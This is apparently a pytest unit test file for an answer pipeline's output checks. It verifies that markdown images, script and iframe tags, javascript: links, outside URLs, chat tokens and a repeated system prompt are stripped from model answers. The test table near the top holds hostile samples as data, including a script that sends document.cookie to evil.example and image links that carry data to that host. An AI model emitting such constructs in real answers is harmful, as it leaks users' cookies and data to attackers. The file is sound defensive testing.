"""Output checks: images, links, HTML, foreign URLs and repeated instructions never leave the pipeline."""

from __future__ import annotations

import pytest

from generation.pipeline import AnswerPipeline
from generation.prompt import NOT_FOUND, SYSTEM_PROMPT
from generation.safety import LEAK_REPLACEMENT, check_output, guard_stream, repeats_instructions
from tests.conftest import make_settings
from tests.generation.test_pipeline import PASSAGES, FixedRetriever
from tests.support.generators import ScriptedGenerator

pytestmark = pytest.mark.unit

SOURCES = ["The sort method returns None. Docs at https://docs.python.org/3/howto/sorting.html for more."]

REMOVED = {
    "inline image": ("Sorted [1]. ![x](https://evil.example/p.png?q=secret)", "Sorted [1]."),
    "reference image": ("Sorted [1]. ![x][r]\n[r]: https://evil.example/p.png", "Sorted [1]."),
    "img tag": ('Sorted [1]. <img src="https://evil.example/t.gif" onerror="alert(1)">', "Sorted [1]."),
    "script": ("Sorted [1].<script>fetch('https://evil.example/'+document.cookie)</script>", "Sorted [1]."),
    "iframe": ('Sorted [1]. <iframe src="https://evil.example"></iframe>', "Sorted [1]."),
    "unclosed script": ("Sorted [1]. <script>alert(1)", "Sorted [1]."),
    "javascript link": ("See [help](javascript:alert(document.cookie)) [1].", "See help [1]."),
    "outside link": (
        "Confirm at [the portal](https://evil.example/reset) [1].",
        "Confirm at the portal [1].",
    ),
    "bare outside URL": ("Visit https://evil.example/x?d=abc now [1].", "Visit now [1]."),
    "autolink": ("Visit <https://evil.example/x> [1].", "Visit [1]."),
    "data URI": ("Icon data:image/svg+xml;base64,PHN2Zz4= here [1].", "Icon here [1]."),
    "chat tokens": ("<|im_start|>assistant Sorted [1].<|im_end|>", "assistant Sorted [1]."),
    "html comment": ("Sorted <!-- hidden --> [1].", "Sorted [1]."),
}


@pytest.mark.parametrize(("answer", "expected"), REMOVED.values(), ids=REMOVED.keys())
def test_hostile_constructs_are_removed_from_the_answer(answer, expected):
    checked = check_output(answer, SOURCES)
    assert checked.text == expected
    assert checked.removed, "what was taken out is reported"


def test_ordinary_text_and_urls_quoted_from_a_source_are_kept():
    answer = "It returns None, so a < b and x > 2 stay; see https://docs.python.org/3/howto/sorting.html [1]."
    checked = check_output(answer, SOURCES, SYSTEM_PROMPT, keep=NOT_FOUND)
    assert checked.text == answer and checked.removed == ()


def test_a_repeated_system_prompt_is_removed_but_the_not_found_reply_is_not():
    leaked = check_output(f"Sure! Here are my rules. {SYSTEM_PROMPT}", [], SYSTEM_PROMPT, keep=NOT_FOUND)
    assert not repeats_instructions(leaked.text, SYSTEM_PROMPT, 4, keep=NOT_FOUND)
    assert LEAK_REPLACEMENT in leaked.text and leaked.text.startswith("Sure!")
    assert check_output(NOT_FOUND, [], SYSTEM_PROMPT, keep=NOT_FOUND).text == NOT_FOUND


@pytest.mark.parametrize("cut", range(1, 12))
def test_the_stream_guard_escapes_images_however_the_pieces_are_cut(cut):
    text = "a ![x](http://e.example/p.png) b!! ![y][r] c!"
    pieces = [text[i : i + cut] for i in range(0, len(text), cut)]
    shown = "".join(guard_stream(pieces))
    assert shown == text.replace("![", "!\\[")


def pipeline_answer(reply: str):
    generator = ScriptedGenerator(reply)
    pipeline = AnswerPipeline(FixedRetriever(0.8), generator, make_settings("/tmp/unused"))
    events = list(pipeline.stream("What does sort return?"))
    return "".join(events[:-1]), events[-1]


def test_the_pipeline_applies_the_checks_to_the_answer_and_guards_the_stream():
    streamed, answer = pipeline_answer("It returns None [1]. ![x](https://evil.example/p.png?q=sort)")
    assert "![" not in streamed and "!\\[x]" in streamed  # shown while streaming: inert
    assert answer.text == "It returns None [1]."
    assert "evil" not in answer.text and not answer.unsupported_sentences


def test_a_model_that_recites_its_instructions_does_not_show_them():
    _, answer = pipeline_answer(f"My instructions are: {SYSTEM_PROMPT}")
    assert not repeats_instructions(answer.text, SYSTEM_PROMPT, 4, keep=NOT_FOUND), answer.text
    assert LEAK_REPLACEMENT in answer.text


def test_without_output_checks_the_pipeline_passes_the_text_through():
    generator = ScriptedGenerator("It returns None [1]. ![x](https://evil.example/p.png)")
    pipeline = AnswerPipeline(
        FixedRetriever(0.8), generator, make_settings("/tmp/unused"), output_checks=False
    )
    assert "![x](https://evil.example/p.png)" in pipeline.ask("What does sort return?").text
    assert PASSAGES  # the fixed retriever's passages were the sources
